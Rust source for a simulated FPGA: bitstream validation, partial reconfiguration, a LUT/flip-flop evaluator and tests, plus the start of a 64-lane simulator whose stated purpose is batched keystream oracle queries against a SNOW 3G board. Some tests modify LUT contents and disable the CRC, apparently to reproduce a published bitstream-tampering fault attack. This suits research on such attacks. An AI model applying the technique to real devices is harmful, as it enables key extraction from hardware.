    /// must migrate to another board. Only injected by fault models
    /// such as [`crate::UnreliableBoard`].
    BoardDead,
}

impl fmt::Display for ProgramError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ProgramError::Bitstream(e) => write!(f, "configuration aborted: {e}"),
            ProgramError::WrongFrameCount { got, expected } => {
                write!(f, "payload has {got} frames, device expects {expected}")
            }
            ProgramError::WrongDevice { got, expected } => {
                write!(f, "bitstream idcode {got:08x?} does not match device {expected:08x}")
            }
            ProgramError::TransientLoad => {
                write!(f, "configuration port glitched mid-load (transient)")
            }
            ProgramError::ConfigTimeout { ms } => {
                write!(f, "configuration interface timed out after {ms} ms (transient)")
            }
            ProgramError::BoardDead => {
                write!(f, "board died permanently (configuration port unresponsive)")
            }
        }
    }
}

impl ProgramError {
    /// Whether retrying the same load can succeed. CRC/size/IDCODE
    /// refusals are permanent properties of the stream; port glitches
    /// and timeouts are not.
    #[must_use]
    pub fn is_transient(&self) -> bool {
        matches!(self, ProgramError::TransientLoad | ProgramError::ConfigTimeout { .. })
    }
}

impl std::error::Error for ProgramError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            ProgramError::Bitstream(e) => Some(e),
            ProgramError::WrongFrameCount { .. }
            | ProgramError::WrongDevice { .. }
            | ProgramError::TransientLoad
            | ProgramError::ConfigTimeout { .. }
            | ProgramError::BoardDead => None,
        }
    }
}

impl From<ParseBitstreamError> for ProgramError {
    fn from(e: ParseBitstreamError) -> Self {
        ProgramError::Bitstream(e)
    }
}

/// An error from [`ConfiguredFpga::apply_partial`]. All variants are
/// permanent refusals of the stream (the partial-reconfiguration
/// analogue of the CRC/size/IDCODE refusals of a full load); the
/// device image is untouched when any of them is returned.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PartialApplyError {
    /// The partial stream failed to parse or its CRC mismatched.
    Stream(ParsePartialError),
    /// The stream was built for a different device (IDCODE mismatch),
    /// or carried no IDCODE at all.
    WrongDevice {
        /// IDCODE found in the stream, if any.
        got: Option<u32>,
        /// This device's IDCODE.
        expected: u32,
    },
    /// A frame run writes past the end of the device's frame space.
    FrameOutOfRange {
        /// First frame of the offending run.
        start: usize,
        /// Frames in the run.
        frames: usize,
        /// Frames the device has.
        device_frames: usize,
    },
}

impl fmt::Display for PartialApplyError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PartialApplyError::Stream(e) => write!(f, "partial stream refused: {e}"),
            PartialApplyError::WrongDevice { got, expected } => {
                write!(f, "partial idcode {got:08x?} does not match device {expected:08x}")
            }
            PartialApplyError::FrameOutOfRange { start, frames, device_frames } => {
                write!(
                    f,
                    "frame run {start}+{frames} writes past the device's {device_frames} frames"
                )
            }
        }
    }
}

impl std::error::Error for PartialApplyError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            PartialApplyError::Stream(e) => Some(e),
            _ => None,
        }
    }
}

/// One evaluation step of the configured fabric. Shared with the
/// gang simulator so both walk the identical topological order.
#[derive(Debug, Clone, Copy)]
pub(crate) enum EvalStep {
    Lut(usize),
    Bram(usize),
}

/// A device: geometry plus the static routing database.
#[derive(Debug, Clone)]
pub struct Fpga {
    geometry: Geometry,
    pub(crate) db: RoutingDb,
    pub(crate) order: Vec<EvalStep>,
    pub(crate) net_count: usize,
    idcode: u32,
}

impl Fpga {
    /// Creates a device from geometry and routing database,
    /// precomputing the evaluation order.
    ///
    /// # Panics
    ///
    /// Panics if the database contains a combinational cycle or a
    /// site outside the geometry.
    #[must_use]
    pub fn new(geometry: Geometry, db: RoutingDb) -> Self {
        geometry.assert_valid();
        for lut in &db.luts {
            let _ = geometry.lut_location(lut.site); // bounds check
        }
        let net_count = net_count(&db);
        let order = eval_order(&db);
        Self { geometry, db, order, net_count, idcode: bitstream::image::DEFAULT_IDCODE }
    }

    /// Overrides the device IDCODE (enforced during configuration).
    #[must_use]
    pub fn with_idcode(mut self, idcode: u32) -> Self {
        self.idcode = idcode;
        self
    }

    /// The device IDCODE.
    #[must_use]
    pub fn idcode(&self) -> u32 {
        self.idcode
    }

    /// The device geometry.
    #[must_use]
    pub fn geometry(&self) -> &Geometry {
        &self.geometry
    }

    /// The static routing database.
    #[must_use]
    pub fn routing_db(&self) -> &RoutingDb {
        &self.db
    }

    /// Configures the device from a bitstream: parses it, enforces
    /// the CRC if present, and loads every LUT site's INIT value.
    ///
    /// # Errors
    ///
    /// Returns [`ProgramError`] if parsing fails, the CRC mismatches
    /// or the payload size is wrong.
    pub fn program(&self, bs: &Bitstream) -> Result<ConfiguredFpga<'_>, ProgramError> {
        Ok(self.configured_from_inits(self.decode_lut_inits(bs)?))
    }

    /// Builds a freshly-configured simulator from already-decoded INIT
    /// values — the global-set/reset half of programming: every FF at
    /// its power-up value, ties driven, cycle counter at zero.
    #[must_use]
    pub fn configured_from_inits(&self, inits: Vec<DualOutputInit>) -> ConfiguredFpga<'_> {
        let mut values = vec![false; self.net_count];
        for ff in &self.db.ffs {
            values[ff.q.index()] = ff.init;
        }
        for &(net, v) in &self.db.ties {
            values[net.index()] = v;
        }
        let latch = vec![false; self.db.ffs.len()];
        ConfiguredFpga { fpga: self, inits, values, latch, clean: false, cycle: 0 }
    }

    /// Parses and validates a bitstream exactly like [`Fpga::program`]
    /// and returns the per-cell INIT values without building a
    /// simulator — the configuration half of programming, reused by
    /// the gang simulator to load each lane.
    ///
    /// # Errors
    ///
    /// Returns [`ProgramError`] if parsing fails, the CRC mismatches
    /// or the payload size is wrong.
    pub fn decode_lut_inits(&self, bs: &Bitstream) -> Result<Vec<DualOutputInit>, ProgramError> {
        Ok(self.decode_with_frames(bs)?.1)
    }

    /// [`Fpga::decode_lut_inits`] with the parsed frame image retained
    /// — the configuration-memory state a partial-reconfiguration base
    /// needs (later frame-deltas are applied to it absolutely).
    ///
    /// # Errors
    ///
    /// Returns [`ProgramError`] if parsing fails, the CRC mismatches
    /// or the payload size is wrong.
    pub fn decode_with_frames(
        &self,
        bs: &Bitstream,
    ) -> Result<(FrameData, Vec<DualOutputInit>), ProgramError> {
        let config = bs.parse()?;
        if config.idcode != Some(self.idcode) {
            return Err(ProgramError::WrongDevice { got: config.idcode, expected: self.idcode });
        }
        if config.frames.frame_count() != self.geometry.frame_count() {
            return Err(ProgramError::WrongFrameCount {
                got: config.frames.frame_count(),
                expected: self.geometry.frame_count(),
            });
        }
        let inits = self
            .db
            .luts
            .iter()
            .map(|cell| {
                codec::read_lut(config.frames.as_bytes(), self.geometry.lut_location(cell.site))
            })
            .collect();
        Ok((config.frames, inits))
    }

    /// Applies a partial stream to a configuration-memory base:
    /// validates the stream in full first (the apply is atomic —
    /// refusal leaves `frames` and `inits` untouched), writes each
    /// frame run absolutely into `frames`, and re-reads only the LUTs
    /// whose truth-table bytes lie in a touched frame. Returns the
    /// number of frames written.
    ///
    /// # Errors
    ///
    /// See [`PartialApplyError`].
    pub fn apply_partial_base(
        &self,
        frames: &mut FrameData,
        inits: &mut [DualOutputInit],
        partial: &PartialBitstream,
    ) -> Result<usize, PartialApplyError> {
        let cfg = partial.parse().map_err(PartialApplyError::Stream)?;
        if cfg.idcode != Some(self.idcode) {
            return Err(PartialApplyError::WrongDevice { got: cfg.idcode, expected: self.idcode });
        }
        let device_frames = self.geometry.frame_count();
        for run in &cfg.runs {
            if run.start_frame + run.frames.frame_count() > device_frames {
                return Err(PartialApplyError::FrameOutOfRange {
                    start: run.start_frame,
                    frames: run.frames.frame_count(),
                    device_frames,
                });
            }
        }
        for run in &cfg.runs {
            let at = run.start_frame * FRAME_BYTES;
            let len = run.frames.as_bytes().len();
            frames.as_mut_bytes()[at..at + len].copy_from_slice(run.frames.as_bytes());
        }
        let touched = |byte: usize| {
            let f = byte / FRAME_BYTES;
            cfg.runs
                .iter()
                .any(|r| f >= r.start_frame && f < r.start_frame + r.frames.frame_count())
        };
        for (i, cell) in self.db.luts.iter().enumerate() {
            let loc = self.geometry.lut_location(cell.site);
            if loc.byte_indices().iter().any(|&b| touched(b)) {
                inits[i] = codec::read_lut(frames.as_bytes(), loc);
            }
        }
        Ok(cfg.frames_written())
    }

    /// Decodes many bitstreams with per-item results, exactly as if
    /// each went through [`Fpga::decode_lut_inits`] — but
    /// differentially: the first accepted stream is walked in full and
    /// becomes the reference; every later stream that differs from it
    /// only inside the FDRI payload (and the stored CRC word) is
    /// validated through the linear CRC delta
    /// ([`bitstream::DeltaCrc`]) and re-reads only the LUTs whose
    /// bytes changed. Streams the delta model does not cover fall back
    /// to the full walk, so acceptance, rejection errors and decoded
    /// INITs are bit-identical to the serial path in every case.
    #[must_use]
    pub fn decode_lut_inits_batch(
        &self,
        bitstreams: &[Bitstream],
    ) -> Vec<Result<Vec<DualOutputInit>, ProgramError>> {
        let mut reference: Option<RefDecode> = None;
        bitstreams
            .iter()
            .map(|bs| {
                if let Some(r) = &reference {
                    if let Some(result) = self.decode_against(r, bs) {
                        return result;
                    }
                }
                let full = self.decode_lut_inits(bs);
                if reference.is_none() {
                    if let Ok(inits) = &full {
                        reference = RefDecode::analyze(self, bs, inits.clone());
                    }
                }
                full
            })
            .collect()
    }

    /// Differential decode of `bs` against the reference, or `None`
    /// when the byte delta strays outside the payload/CRC-word region
    /// the delta model covers (→ caller falls back to the full walk).
    fn decode_against(
        &self,
        r: &RefDecode,
        bs: &Bitstream,
    ) -> Option<Result<Vec<DualOutputInit>, ProgramError>> {
        let bytes = bs.as_bytes();
        if bytes.len() != r.bytes.len() {
            return None;
        }
        let crc_word = r.delta.crc_value_at()..r.delta.crc_value_at() + 4;
        let mut words: Vec<usize> = Vec::new();
        let mut payload_bytes: Vec<usize> = Vec::new();
        // Diff in 8-byte blocks via u64 loads: near-golden variants
        // differ in a handful of bytes, so the scan is dominated by
        // equal blocks and one integer compare retires each of them.
        let mut diff_at = |pos: usize| -> bool {
            if r.payload.contains(&pos) {
                words.push((pos - r.payload.start) / 4);
                payload_bytes.push(pos - r.payload.start);
                true
            } else {
                crc_word.contains(&pos)
            }
        };
        let mut chunks_a = r.bytes.chunks_exact(8);
        let mut chunks_b = bytes.chunks_exact(8);
        let mut block = 0;
        for (ca, cb) in chunks_a.by_ref().zip(chunks_b.by_ref()) {
            let a = u64::from_ne_bytes(ca.try_into().expect("8-byte chunk"));
            let b = u64::from_ne_bytes(cb.try_into().expect("8-byte chunk"));
            if a != b {
                #[allow(clippy::needless_range_loop)]
                for pos in block..block + 8 {
                    if r.bytes[pos] != bytes[pos] && !diff_at(pos) {
                        // A structural difference (headers, commands,
                        // a zeroed CRC packet): not expressible as a
                        // payload delta.
                        return None;
                    }
                }
            }
            block += 8;
        }
        for (pos, (a, b)) in chunks_a.remainder().iter().zip(chunks_b.remainder()).enumerate() {
            if a != b && !diff_at(block + pos) {
                return None;
            }
        }
        words.dedup();
        let computed = r.delta.value_for(&r.bytes, bytes, r.payload.start, &words);
        let stored = r.delta.stored(bytes);
        if stored != computed {
            return Some(Err(ProgramError::Bitstream(ParseBitstreamError::CrcMismatch {
                stored,
                computed,
            })));
        }
        let mut inits = r.inits.clone();
        let mut reread: Vec<usize> = Vec::new();
        for b in payload_bytes {
            if let Some(luts) = r.byte_luts.get(&b) {
                reread.extend_from_slice(luts);
            }
        }
        reread.sort_unstable();
        reread.dedup();
        let payload = &bytes[r.payload.clone()];
        for i in reread {
            inits[i] = codec::read_lut(payload, self.geometry.lut_location(self.db.luts[i].site));
        }
        Some(Ok(inits))
    }
}

/// The reference stream a [`Fpga::decode_lut_inits_batch`] call
/// decodes later streams against.
struct RefDecode {
    /// Raw bytes of the reference bitstream.
    bytes: Vec<u8>,
    /// Byte range of the FDRI payload within `bytes`.
    payload: core::ops::Range<usize>,
    /// Differential-CRC analysis of the reference stream.
    delta: DeltaCrc,
    /// The reference stream's decoded INIT values.
    inits: Vec<DualOutputInit>,
    /// Payload-relative byte index → LUT indices stored there.
    byte_luts: HashMap<usize, Vec<usize>>,
}

impl RefDecode {
    /// Builds the reference from an accepted stream, or `None` when
    /// the stream's structure defeats the delta model.
    fn analyze(fpga: &Fpga, bs: &Bitstream, inits: Vec<DualOutputInit>) -> Option<Self> {
        let payload = bs.fdri_data_range()?;
        let delta = DeltaCrc::analyze(bs, &payload)?;
        let mut byte_luts: HashMap<usize, Vec<usize>> = HashMap::new();
        for (i, cell) in fpga.db.luts.iter().enumerate() {
            for b in fpga.geometry.lut_location(cell.site).byte_indices() {
                byte_luts.entry(b).or_default().push(i);
            }
        }
        Some(Self { bytes: bs.as_bytes().to_vec(), payload, delta, inits, byte_luts })
    }
}

fn net_count(db: &RoutingDb) -> usize {
    let mut max = 0usize;
    let mut consider = |n: NetId| max = max.max(n.index() + 1);
    for l in &db.luts {
        l.inputs.iter().copied().for_each(&mut consider);
        consider(l.o6);
        if let Some(o5) = l.o5 {
            consider(o5);
        }
    }
    for f in &db.ffs {
        consider(f.q);
        consider(f.d);
    }
    for b in &db.brams {
        b.addr.iter().copied().for_each(&mut consider);
        b.data.iter().copied().for_each(&mut consider);
    }
    for &(n, _) in &db.ties {
        consider(n);
    }
    for &(_, n) in &db.inputs {
        consider(n);
    }
    max
}

fn eval_order(db: &RoutingDb) -> Vec<EvalStep> {
    // Kahn over combinational dependencies (FF outputs, inputs and
    // ties are sources).
    let mut producer: HashMap<NetId, EvalStep> = HashMap::new();
    for (i, l) in db.luts.iter().enumerate() {
        producer.insert(l.o6, EvalStep::Lut(i));
        if let Some(o5) = l.o5 {
            producer.insert(o5, EvalStep::Lut(i));
        }
    }
    for (i, b) in db.brams.iter().enumerate() {
        for &d in &b.data {
            producer.insert(d, EvalStep::Bram(i));
        }
    }
    let idx = |s: EvalStep| match s {
        EvalStep::Lut(i) => i,
        EvalStep::Bram(i) => db.luts.len() + i,
    };
    let total = db.luts.len() + db.brams.len();
    let mut indeg = vec![0usize; total];
    let mut fanout: Vec<Vec<EvalStep>> = vec![Vec::new(); total];
    let deps = |s: EvalStep| -> Vec<NetId> {
        match s {
            EvalStep::Lut(i) => db.luts[i].inputs.clone(),
            EvalStep::Bram(i) => db.brams[i].addr.clone(),
        }
    };
    let steps: Vec<EvalStep> = (0..db.luts.len())
        .map(EvalStep::Lut)
        .chain((0..db.brams.len()).map(EvalStep::Bram))
        .collect();
    for &s in &steps {
        for net in deps(s) {
            if let Some(&p) = producer.get(&net) {
                indeg[idx(s)] += 1;
                fanout[idx(p)].push(s);
            }
        }
    }
    let mut queue: Vec<EvalStep> = steps.iter().copied().filter(|&s| indeg[idx(s)] == 0).collect();
    let mut order = Vec::with_capacity(total);
    let mut head = 0;
    while head < queue.len() {
        let s = queue[head];
        head += 1;
        order.push(s);
        for &succ in &fanout[idx(s)].clone() {
            indeg[idx(succ)] -= 1;
            if indeg[idx(succ)] == 0 {
                queue.push(succ);
            }
        }
    }
    assert_eq!(order.len(), total, "combinational cycle in routing database");
    order
}

/// A configured (programmed) device, ready to clock.
#[derive(Debug, Clone)]
pub struct ConfiguredFpga<'a> {
    fpga: &'a Fpga,
    inits: Vec<DualOutputInit>,
    values: Vec<bool>,
    /// Double buffer for FF state: `latch[i]` holds the sampled D
    /// input of `db.ffs[i]` between the two phases of a step, so no
    /// step allocates.
    latch: Vec<bool>,
    /// Whether `values` reflects a completed combinational evaluation
    /// of the current state. Cleared by `set_input`; when set, the
    /// pre-latch evaluation in `step` is a no-op and is skipped.
    clean: bool,
    cycle: u64,
}

impl ConfiguredFpga<'_> {
    /// The INIT value loaded at LUT cell `i` (diagnostics).
    #[must_use]
    pub fn lut_init(&self, i: usize) -> DualOutputInit {
        self.inits[i]
    }

    /// Drives a primary input net.
    pub fn set_input(&mut self, net: NetId, value: bool) {
        self.values[net.index()] = value;
        self.clean = false;
    }

    /// The current value of a net (after the last evaluation).
    #[must_use]
    pub fn net(&self, net: NetId) -> bool {
        self.values[net.index()]
    }

    /// Reads 32 nets as a word, LSB first.
    #[must_use]
    pub fn word(&self, nets: &[NetId]) -> u32 {
        nets.iter().enumerate().fold(0u32, |acc, (i, &n)| acc | (u32::from(self.net(n)) << i))
    }

    /// Clock cycles executed.
    #[must_use]
    pub fn cycle(&self) -> u64 {
        self.cycle
    }

    fn evaluate(&mut self) {
        let db = &self.fpga.db;
        for &step in &self.fpga.order {
            match step {
                EvalStep::Lut(i) => {
                    let cell = &db.luts[i];
                    let init = self.inits[i];
                    let mut addr = 0u8;
                    for (p, net) in cell.inputs.iter().enumerate() {
                        if self.values[net.index()] {
                            addr |= 1 << p;
                        }
                    }
                    match cell.o5 {
                        None => {
                            // Single-output mode: O6 reads the full
                            // 6-input table (unconnected pins low).
                            self.values[cell.o6.index()] = init.o6().eval(addr & 0x3F);
                        }
                        Some(o5) => {
                            // Fractured: both halves share pins a1..a5.
                            let a = addr & 0x1F;
                            self.values[o5.index()] = init.o5().eval(a);
                            self.values[cell.o6.index()] = init.o6_fractured().eval(a);
                        }
                    }
                }
                EvalStep::Bram(i) => {
                    let cell = &db.brams[i];
                    let mut a = 0usize;
                    for (p, net) in cell.addr.iter().enumerate() {
                        if self.values[net.index()] {
                            a |= 1 << p;
                        }
                    }
                    let word = cell.table[a];
                    for (bit, net) in cell.data.iter().enumerate() {
                        self.values[net.index()] = (word >> bit) & 1 == 1;
                    }
                }
            }
        }
    }

    /// Runs one clock cycle with the current input values.
    pub fn step(&mut self) {
        // Evaluation is idempotent, so when the previous step's
        // post-latch evaluation is still current (no input changed in
        // between) the pre-latch pass would recompute the same values
        // and is skipped — back-to-back steps pay one pass, not two.
        if !self.clean {
            self.evaluate();
        }
        let db = &self.fpga.db;
        for (slot, ff) in self.latch.iter_mut().zip(&db.ffs) {
            *slot = self.values[ff.d.index()];
        }
        for (slot, ff) in self.latch.iter().zip(&db.ffs) {
            self.values[ff.q.index()] = *slot;
        }
        self.cycle += 1;
        self.evaluate();
        self.clean = true;
    }

    /// Runs `n` clock cycles.
    pub fn run(&mut self, n: usize) {
        for _ in 0..n {
            self.step();
        }
    }

    /// Partial reconfiguration: applies a frame-delta stream to this
    /// configured device in O(touched frames) — `frames` is the
    /// device's configuration-memory image (as retained by
    /// [`Fpga::decode_with_frames`]); runs are written into it
    /// absolutely, only the LUTs whose bytes lie in a touched frame
    /// are re-decoded, and the `Start` command pulses global
    /// set/reset: every FF returns to its power-up value and the
    /// cycle counter restarts, exactly as a full reload would leave
    /// the device. Refusal is atomic — neither `frames` nor the
    /// loaded INITs change.
    ///
    /// # Errors
    ///
    /// See [`PartialApplyError`].
    pub fn apply_partial(
        &mut self,
        partial: &PartialBitstream,
        frames: &mut FrameData,
    ) -> Result<usize, PartialApplyError> {
        let written = self.fpga.apply_partial_base(frames, &mut self.inits, partial)?;
        for v in &mut self.values {
            *v = false;
        }
        for ff in &self.fpga.db.ffs {
            self.values[ff.q.index()] = ff.init;
        }
        for &(net, v) in &self.fpga.db.ties {
            self.values[net.index()] = v;
        }
        self.latch.fill(false);
        self.clean = false;
        self.cycle = 0;
        Ok(written)
    }

    /// Configuration readback (the `FDRO` path of real devices):
    /// reconstructs the frame contents from the loaded LUT INITs.
    /// Non-LUT bits (routing) are masked to zero, mirroring the mask
    /// files vendors ship for readback verification.
    #[must_use]
    pub fn readback_frames(&self) -> bitstream::FrameData {
        let geometry = self.fpga.geometry();
        let mut frames = bitstream::FrameData::new(geometry.frame_count());
        for (cell, &init) in self.fpga.db.luts.iter().zip(&self.inits) {
            codec::write_lut(frames.as_mut_bytes(), geometry.lut_location(cell.site), init);
        }
        frames
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bitstream::{codec, BitstreamBuilder, FrameData};

    /// A tiny device: one LUT computing a function of two FF outputs,
    /// both toggling.
    fn tiny() -> (Fpga, Vec<NetId>) {
        let geometry = Geometry::with_columns(2);
        let n = |i: u32| NodeId(i);
        let db = RoutingDb {
            luts: vec![
                // LUT computing o = a ^ b at site (0,0,0).
                LutCell {
                    site: SiteId { col: 0, row: 0, lut: 0 },
                    inputs: vec![n(0), n(1)],
                    o6: n(2),
                    o5: None,
                },
                // Inverter for the toggle FF at site (1,3,2).
                LutCell {
                    site: SiteId { col: 1, row: 3, lut: 2 },
                    inputs: vec![n(0)],
                    o6: n(3),
                    o5: None,
                },
            ],
            ffs: vec![
                FfCell { q: n(0), d: n(3), init: false }, // toggles
                FfCell { q: n(1), d: n(1), init: true },  // holds 1
            ],
            brams: vec![],
            inputs: vec![],
            ties: vec![],
        };
        (Fpga::new(geometry, db), vec![n(2)])
    }

    fn bitstream_for(fpga: &Fpga, xor_init: u64, inv_init: u64) -> Bitstream {
        let mut frames = FrameData::new(fpga.geometry().frame_count());
        let loc0 = fpga.geometry().lut_location(SiteId { col: 0, row: 0, lut: 0 });
        let loc1 = fpga.geometry().lut_location(SiteId { col: 1, row: 3, lut: 2 });
        codec::write_lut(frames.as_mut_bytes(), loc0, DualOutputInit::new(xor_init));
        codec::write_lut(frames.as_mut_bytes(), loc1, DualOutputInit::new(inv_init));
        BitstreamBuilder::new(frames).build()
    }

    /// 6-var extension of XOR2 on pins a1, a2.
    fn xor2_init() -> u64 {
        boolfn::TruthTable::var(6, 1).xor(boolfn::TruthTable::var(6, 2)).bits()
    }

    /// 6-var extension of NOT on pin a1.
    fn not1_init() -> u64 {
        boolfn::TruthTable::var(6, 1).not().bits()
    }

    #[test]
    fn configured_device_follows_lut_contents() {
        let (fpga, outs) = tiny();
        let bs = bitstream_for(&fpga, xor2_init(), not1_init());
        let mut dev = fpga.program(&bs).expect("programs");
        // q0 toggles 0,1,0,...; q1 holds 1; o = q0 ^ q1.
        let mut expect_q0 = false;
        for _ in 0..6 {
            dev.step();
            expect_q0 = !expect_q0;
            assert_eq!(dev.net(outs[0]), expect_q0 ^ true);
        }
    }

    #[test]
    fn modified_lut_changes_behaviour() {
        let (fpga, outs) = tiny();
        // Replace XOR with constant-0 (the paper's verification
        // fault): output must be stuck at 0.
        let bs = bitstream_for(&fpga, 0, not1_init());
        let mut dev = fpga.program(&bs).expect("programs");
        for _ in 0..4 {
            dev.step();
            assert!(!dev.net(outs[0]));
        }
    }

    #[test]
    fn crc_mismatch_refuses_configuration() -> Result<(), Box<dyn std::error::Error>> {
        let (fpga, _) = tiny();
        let mut bs = bitstream_for(&fpga, xor2_init(), not1_init());
        let range = bs.fdri_data_range().ok_or("golden stream has no FDRI write")?;
        bs.as_mut_bytes()[range.start + 11] ^= 0x40;
        assert!(matches!(
            fpga.program(&bs),
            Err(ProgramError::Bitstream(ParseBitstreamError::CrcMismatch { .. }))
        ));
        Ok(())
    }

    #[test]
    fn crc_disabled_configuration_proceeds() -> Result<(), Box<dyn std::error::Error>> {
        let (fpga, outs) = tiny();
        let mut bs = bitstream_for(&fpga, xor2_init(), not1_init());
        // Flip a bit inside the XOR LUT's init: turn XOR into XNOR by
        // rewriting the whole LUT.
        let loc = fpga.geometry().lut_location(SiteId { col: 0, row: 0, lut: 0 });
        let range = bs.fdri_data_range().ok_or("golden stream has no FDRI write")?;
        let xnor = boolfn::TruthTable::var(6, 1).xor(boolfn::TruthTable::var(6, 2)).not().bits();
        codec::write_lut(&mut bs.as_mut_bytes()[range.clone()], loc, DualOutputInit::new(xnor));
        assert!(fpga.program(&bs).is_err(), "CRC still enforced");
        bs.disable_crc();
        let mut dev = fpga.program(&bs).expect("CRC disabled");
        dev.step();
        assert!(dev.net(outs[0]), "after one step q0=1, q1=1, and XNOR(1,1)=1");
        Ok(())
    }

    #[test]
    fn readback_returns_loaded_inits() {
        let (fpga, _) = tiny();
        let bs = bitstream_for(&fpga, xor2_init(), not1_init());
        let dev = fpga.program(&bs).expect("programs");
        let frames = dev.readback_frames();
        let loc = fpga.geometry().lut_location(SiteId { col: 0, row: 0, lut: 0 });
        let got = codec::read_lut(frames.as_bytes(), loc);
        assert_eq!(got.init(), xor2_init());
        // Routing bits are masked out.
        let ranges = fpga.geometry().non_init_ranges();
        for r in ranges {
            assert!(frames.as_bytes()[r].iter().all(|&b| b == 0));
        }
    }

    #[test]
    fn wrong_idcode_rejected() -> Result<(), ParseBitstreamError> {
        let (fpga, _) = tiny();
        let frames = bitstream_for(&fpga, xor2_init(), not1_init()).parse()?.frames;
        let bs = BitstreamBuilder::new(frames).idcode(0x1234_5678).build();
        assert!(matches!(fpga.program(&bs), Err(ProgramError::WrongDevice { .. })));
        Ok(())
    }

    #[test]
    fn wrong_payload_size_rejected() {
        let (fpga, _) = tiny();
        let frames = FrameData::new(fpga.geometry().frame_count() + 1);
        let bs = BitstreamBuilder::new(frames).build();
        assert!(matches!(fpga.program(&bs), Err(ProgramError::WrongFrameCount { .. })));
    }
}
