//! Gang simulation: 64 independently configured devices evaluated in
//! bit-parallel lockstep.
//!
//! A [`GangConfiguredFpga`] packs up to [`GANG_LANES`] configurations
//! of the *same* device into one `u64` word per net, where bit *i* is
//! lane *i*'s boolean value. LUT evaluation becomes a word-wide
//! binary mux-tree reduction over pre-decoded per-lane truth-table
//! bit-planes, flip-flop latching is a word copy, and one [`step`]
//! advances all lanes at once — the throughput primitive behind
//! batched oracle queries (`Snow3gBoard::keystream_batch`).
//!
//! Lane *i* is bit-identical to the scalar [`ConfiguredFpga`]
//! programmed with the same bitstream: the bit-planes are built by
//! calling the scalar truth-table evaluators row by row, and the gang
//! walks the same precomputed topological order, so equivalence holds
//! by construction and is additionally pinned by a differential
//! property test.
//!
//! [`step`]: GangConfiguredFpga::step
//! [`ConfiguredFpga`]: crate::fabric::ConfiguredFpga

use boolfn::DualOutputInit;

use bitstream::Bitstream;

use crate::fabric::{EvalStep, Fpga, NetId, ProgramError};

/// Number of simulated devices packed into one gang word.
pub const GANG_LANES: usize = 64;

/// Pre-decoded truth tables for one LUT cell across all lanes.
///
/// `planes[r]` holds, in bit *i*, lane *i*'s truth-table output for
/// input row *r* — so selecting row `addr[lane]` in every lane at
/// once is a `log2(rows)` chain of word-wide 2:1 muxes.
#[derive(Debug, Clone)]
enum GangLut {
    /// Single-output mode: O6 reads the full 64-row table.
    Single { planes: Box<[u64; 64]> },
    /// Fractured mode: O5 and O6 each read a 32-row half sharing
    /// pins `a1..a5`.
    Fractured { o5: Box<[u64; 32]>, o6: Box<[u64; 32]> },
}

/// Selects one row per lane from a plane set: `planes[r]` bit *i* is
/// lane *i*'s table bit at row `r`; `addr[p]` bit *i* is lane *i*'s
/// pin `p`. Standard binary reduction: each level folds the planes in
/// half with a word-wide mux on the next address bit.
fn mux_tree(planes: &[u64], addr: impl Fn(usize) -> u64) -> u64 {
    debug_assert!(planes.len().is_power_of_two());
    if planes.len() == 1 {
        return planes[0];
    }
    // The first level folds straight out of `planes`, so the planes
    // are read once instead of copied wholesale into scratch first.
    let mut scratch = [0u64; 32];
    let a = addr(0);
    let mut n = planes.len() / 2;
    for r in 0..n {
        scratch[r] = (planes[2 * r] & !a) | (planes[2 * r + 1] & a);
    }
    let mut level = 1;
    while n > 1 {
        let a = addr(level);
        for r in 0..n / 2 {
            scratch[r] = (scratch[2 * r] & !a) | (scratch[2 * r + 1] & a);
        }
        n /= 2;
        level += 1;
    }
    scratch[0]
}

/// Up to 64 configured devices clocked in lockstep.
///
/// Construct with [`Fpga::program_gang`] (whole-gang validation) or
/// [`GangConfiguredFpga::with_inits`] from per-lane INIT vectors
/// decoded by [`Fpga::decode_lut_inits`] (per-lane error handling).
#[derive(Debug, Clone)]
pub struct GangConfiguredFpga<'a> {
    fpga: &'a Fpga,
    lanes: usize,
    luts: Vec<GangLut>,
    /// Per-net lane words; bit *i* is lane *i*'s value.
    values: Vec<u64>,
    /// FF double buffer, index-aligned with `db.ffs`.
    latch: Vec<u64>,
    /// Same laziness contract as the scalar simulator: when set, the
    /// pre-latch evaluation in `step` is skipped.
    clean: bool,
    cycle: u64,
}

impl Fpga {
    /// Configures up to [`GANG_LANES`] bitstreams onto one gang
    /// simulator. Every lane is validated exactly like
    /// [`Fpga::program`]; the first failing lane aborts the whole
    /// gang (use [`Fpga::decode_lut_inits`] plus
    /// [`GangConfiguredFpga::with_inits`] for per-lane fallout).
    ///
    /// # Errors
    ///
    /// Returns the first lane's [`ProgramError`] if any bitstream
    /// fails to parse or validate.
    ///
    /// # Panics
    ///
    /// Panics if `bitstreams` is empty or has more than
    /// [`GANG_LANES`] entries.
    pub fn program_gang<'a>(
        &'a self,
        bitstreams: &[&Bitstream],
    ) -> Result<GangConfiguredFpga<'a>, ProgramError> {
        let mut lanes = Vec::with_capacity(bitstreams.len());
        for bs in bitstreams {
            lanes.push(self.decode_lut_inits(bs)?);
        }
        Ok(GangConfiguredFpga::with_inits(self, &lanes))
    }
}

impl<'a> GangConfiguredFpga<'a> {
    /// Builds a gang from already-decoded per-lane INIT vectors (one
    /// `Vec<DualOutputInit>` per lane, as returned by
    /// [`Fpga::decode_lut_inits`]).
    ///
    /// # Panics
    ///
    /// Panics if `lanes` is empty, has more than [`GANG_LANES`]
    /// entries, or a lane's INIT count does not match the device's
    /// LUT count.
    #[must_use]
    pub fn with_inits(fpga: &'a Fpga, lanes: &[Vec<DualOutputInit>]) -> Self {
        assert!(
            !lanes.is_empty() && lanes.len() <= GANG_LANES,
            "gang wants 1..={GANG_LANES} lanes, got {}",
            lanes.len()
        );
        let db = &fpga.db;
        for (i, lane) in lanes.iter().enumerate() {
            assert_eq!(lane.len(), db.luts.len(), "lane {i} INIT count");
        }
        let luts = db
            .luts
            .iter()
            .enumerate()
            .map(|(cell_idx, cell)| {
                // Batched oracle queries differ from their reference
                // lane in at most a couple of LUTs, so most cells
                // carry the same INIT in every lane: evaluate lane 0's
                // tables once and broadcast the row bit to every lane
                // with a matching INIT; only divergent lanes pay a
                // per-lane evaluation.
                let base = lanes[0][cell_idx];
                let mut broadcast = 0u64;
